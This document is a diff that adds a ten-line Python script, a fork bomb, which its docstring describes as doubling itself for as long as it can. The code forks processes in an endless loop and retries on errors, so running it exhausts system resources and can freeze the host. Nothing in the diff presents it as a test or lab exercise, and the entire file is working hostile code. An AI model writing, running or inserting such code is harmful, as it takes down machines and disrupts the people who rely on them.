@@ -1,0 +1,10 @@
+"""Doubles itself for as long as it can."""
+
+import os
+import time
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(0.01)
